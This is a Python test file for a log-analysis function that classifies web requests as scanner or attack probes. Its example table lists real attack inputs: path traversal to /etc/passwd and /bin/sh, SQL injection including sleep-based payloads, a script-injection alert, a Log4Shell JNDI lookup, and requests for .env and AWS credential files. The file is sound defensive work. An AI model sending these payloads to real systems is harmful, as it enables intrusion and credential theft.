"""Probes are found however they are encoded, and ordinary requests are none."""

from __future__ import annotations

import doctest
import gzip
import re
from pathlib import Path

import pyarrow as pa
import pytest

from footfall.transforms.describing import find_probes as module
from footfall.transforms.describing.find_probes import (
    NO_PROBE,
    PROBE_ALWAYS,
    PROBE_RULES,
    PROBE_WHEN_REFUSED,
    find_probes,
)

LOGS = Path(__file__).parents[3] / "../shared/data/logs"

EXAMPLES = [
    ("tls on a plain port", "\x16\x03\x01\x02"),
    ("tls on a plain port", r"\x16\x03\x01"),
    ("ssh", "SSH-2.0-Go"),
    ("rdp", "\x03\x00\x00/*\ufffd\x00\x00\x00\x00\x00Cookie: mstshash=Administr"),
    ("smb", "\x00\x00\x00\x85\ufffdSMBr"),
    ("other protocol", "\x04\x01\x00P"),
    ("other protocol", "t3 12.1.2"),
    ("proxy attempt", "www.google.com:443"),
    ("proxy attempt", "http://api.ipify.org/?format=json"),
    ("path traversal", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
    ("path traversal", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/x"),
    ("path traversal", "/static/%252e%252e%252f%252e%252e%252fsecret"),
    ("path traversal", "/read?file=/etc/passwd"),
    ("sql injection", "/p?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"),
    ("sql injection", "/p?id=1+union+select+1,2"),
    ("sql injection", "/p?id=1'+or+'1'='1"),
    ("sql injection", "/p?id=if(now()=sysdate(),sleep(15),0)"),
    ("script injection", "/?x=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("code injection", "/?x=${jndi:ldap://192.0.2.1/a}"),
    ("code injection", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("code injection", "/index.php?s=/index/%5Cthink%5Capp/invokefunction"),
    ("scanner", "/nmaplowercheck1700000000"),
    ("secrets file", "/.env"),
    ("secrets file", "//app/.ENV.bak"),
    ("secrets file", "/%2eaws/credentials"),
    ("version control", "/.git/config"),
    ("device exploit", "/boaform/admin/formLogin"),
    ("web shell", "/alfanew.php7"),
    ("wordpress", "/wp-login.php?action=register"),
    ("wordpress", "//blog/wp-includes/wlwmanifest.xml"),
    ("php admin", "/phpMyAdmin-5.2/index.php"),
    ("php info", "/phpinfo.php"),
    ("shell upload", "/uploads/images/x.php"),
    ("backup file", "/backup.zip"),
    ("configuration file", "/config/database.yml"),
    ("server status", "/server-status?auto"),
    ("admin console", "/manager/html"),
    ("service discovery", "/dns-query?name=example.com"),
]


@pytest.mark.parametrize(("reason", "asked"), EXAMPLES)
def test_a_probe_has_a_reason(reason: str, asked: str) -> None:
    probe = next(rule.probe for rule in PROBE_RULES if rule.reason == reason)
    assert find_probes(pa.array([asked])).to_pylist() == [{"probe": probe, "reason": reason}]


def test_every_rule_has_an_example() -> None:
    assert {rule.reason for rule in PROBE_RULES} == {reason for reason, _ in EXAMPLES}


@pytest.mark.parametrize(
    "asked",
    [
        "/",
        "*",
        "-",
        "",
        None,
        "/environment/.well-known/acme-challenge/x",
        "/blog/union-select-explained",
        "/search?q=sql+union+select+two+tables",
        "/search?q=how+to+sleep+or+rest",
        "/search?q=select+a+gift+from+us",
        "/search?q=O'Brien+and+sons",
        "/login?next=/wp-admin/",
        "/img/{{item.src}}",
        "/docs/git/config",
        "/a/../b",
        "/wp-content/uploads/2025/06/photo.jpg",
        "/100%",
        "/p?price=10..20",
        "http://shop.example/about",
        "/%D9%85%D8%B1%D8%AD%D8%A8%D8%A7",
        "/?utm_source=x&gclid=a--b",
    ],
)
def test_ordinary_requests_are_no_probes(asked: str | None) -> None:
    assert find_probes(pa.array([asked], pa.string())).to_pylist() == [{"probe": NO_PROBE, "reason": ""}]


def test_many_requests_are_judged_like_few() -> None:
    asked = pa.array([text for _, text in EXAMPLES] + ["/about", None])
    many = pa.concat_arrays([asked] * (module._MANY // len(asked) + 1))
    assert find_probes(many).slice(0, len(asked)).equals(find_probes(asked))


def test_a_long_request_is_judged_by_its_beginning() -> None:
    asked = pa.array(["/.env?" + "x" * 60_000, "/" + "(" * 60_000 + "/.env"])
    assert find_probes(asked)["probe"].to_pylist() == [PROBE_ALWAYS, NO_PROBE]


def requests_of(name: str) -> list[tuple[str, str]]:
    """The urls and statuses of a real log."""
    path = LOGS / name
    if not path.exists():
        pytest.skip(f"the real log {name} is not here")
    with gzip.open(path, "rt", encoding="utf-8", errors="replace") as lines:
        found = (re.search(r'"[A-Z]+ (\S+)[^"]*" (\d{3})', line) for line in lines)
        return sorted({(match[1], match[2]) for match in found if match})


@pytest.mark.parametrize("name", ["semicomplete-2015.log.gz", "nasa-1995.log.gz", "probes-2015.log.gz"])
def test_no_page_that_a_real_site_served_is_a_probe(name: str) -> None:
    requests = requests_of(name)
    probes = find_probes(pa.array([url for url, _ in requests]))["probe"].to_pylist()
    served = [status in ("200", "304") for _, status in requests]
    assert sum(probe == PROBE_ALWAYS for probe, ok in zip(probes, served, strict=True) if ok) == 0
    assert sum(probe == PROBE_WHEN_REFUSED for probe, ok in zip(probes, served, strict=True) if not ok) < 30


def test_examples_in_docstrings_hold() -> None:
    assert doctest.testmod(module).failed == 0
